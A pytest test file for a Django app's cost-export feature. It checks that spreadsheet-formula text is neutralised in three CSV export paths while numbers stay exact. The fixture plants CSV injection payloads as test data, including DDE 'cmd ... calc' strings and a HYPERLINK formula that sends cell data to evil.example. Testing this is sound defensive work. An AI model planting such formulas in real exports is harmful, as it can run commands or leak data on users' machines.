"""CSV formula injection (issue 14, item 4): client-chosen texts that start like a spreadsheet
formula are neutralised in all three CSV paths, while the numbers of the same rows stay exact numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from completions_app.models import CompletionRecord
from completions_app.services.cost_export import HEADER, text_cell

pytestmark = pytest.mark.django_db

EXPORT = reverse("finance:export")
RANGE = {"start": "2026-03-10", "end": "2026-03-12"}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# Every client- or admin-chosen text column of the CSV.
TEXT_COLUMNS = {
    "request_id": "request_id",
    "client": "client_name",
    "model": "model",
    "served_model": "served_model",
    "provider": "provider",
    "provider_key": "provider_key",
}


@pytest.fixture
def planted(base_day) -> dict[str, CompletionRecord]:
    """One record per dangerous first character, every text column planted, by request id."""
    out = {}
    for i, c in enumerate(DANGEROUS):
        r = CompletionRecord.objects.create(
            created_at=base_day + timedelta(hours=i),
            request_id=f"{c}req-{i}",
            client_name=f"{c}cmd|' /C calc'!A0",
            model=f'{c}HYPERLINK("http://evil.example/?x="&A1,"click")',
            served_model=f"{c}SUM(1+1)*cmd|' /C calc'!A0",
            provider=f"{c}2+3",
            provider_key=f"{c}1",
            status=CompletionRecord.Status.ERROR,
            error_type=f"{c}SUM(A1:A9)",
            input_tokens=1000 + i,
            output_tokens=20_000 + i,
            reasoning_tokens=300 + i,
            cache_read_tokens=i,
            input_price_per_mtok=Decimal("-0.15"),  # a negative number is a number, not text
            output_price_per_mtok=Decimal("12.345678"),
            cost_usd=Decimal(f"-{i}.000000000001"),
            latency_ms=-1.25 - i,
        )
        out[r.request_id] = r
    return out


def _rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body, newline="")))


def _exportcosts() -> list[dict[str, str]]:
    out = io.StringIO()
    call_command("exportcosts", "--since", "2026-03-10", "--until", "2026-03-13", stdout=out)
    return _rows(out.getvalue())


def _download(client) -> list[dict[str, str]]:
    resp = client.get(EXPORT, RANGE)
    assert resp.status_code == 200
    return _rows(b"".join(resp.streaming_content).decode())


def _admin_action(client) -> list[dict[str, str]]:
    changelist = reverse("admin:completions_app_completionrecord_changelist")
    ids = [str(pk) for pk in CompletionRecord.objects.values_list("pk", flat=True)]
    resp = client.post(changelist, {"action": "export_csv", "_selected_action": ids})
    assert resp.status_code == 200
    return _rows(b"".join(resp.streaming_content).decode())


@pytest.mark.parametrize("export", [_exportcosts, _download, _admin_action], ids=["exportcosts", "report", "admin"])
def test_formula_texts_are_neutralised_and_numbers_stay_exact(export, planted, finance_client):
    rows = _exportcosts() if export is _exportcosts else export(finance_client)
    assert len(rows) == len(DANGEROUS)
    assert list(rows[0]) == HEADER  # the column order stays
    for row in rows:
        record = planted[row["request_id"][1:]]  # every request id here is planted, so prefixed
        for column, attr in TEXT_COLUMNS.items():
            value = getattr(record, attr)
            assert row[column] == "'" + value, (column, row[column])
        # The numbers of the same row: not prefixed, and exact when parsed back.
        assert Decimal(row["cost_usd"]) == record.cost_usd < 0
        assert Decimal(row["input_price_per_mtok"]) == Decimal("-0.15")
        assert Decimal(row["output_price_per_mtok"]) == Decimal("12.345678")
        assert int(row["input_tokens"]) == record.input_tokens
        assert int(row["output_tokens"]) == record.output_tokens
        assert row["reasoning_tokens"] == str(record.reasoning_tokens)
        assert int(row["cache_read_tokens"]) == record.cache_read_tokens
        assert float(row["latency_ms"]) == record.latency_ms < 0
        assert row["status"] == "error" and row["stream"] == "false"


def test_only_a_formula_start_is_prefixed():
    for c in DANGEROUS:
        assert text_cell(f"{c}x") == f"'{c}x"
    for safe in ("", "gpt-4o-mini", "a=b", " =1+1", "'=already", "1-2", "req-1"):
        assert text_cell(safe) == safe


def test_the_documented_columns_are_the_csv_header():
    doc = (Path(__file__).resolve().parents[3] / "docs" / "finance.md").read_text()
    assert ",".join(HEADER) in doc.splitlines()
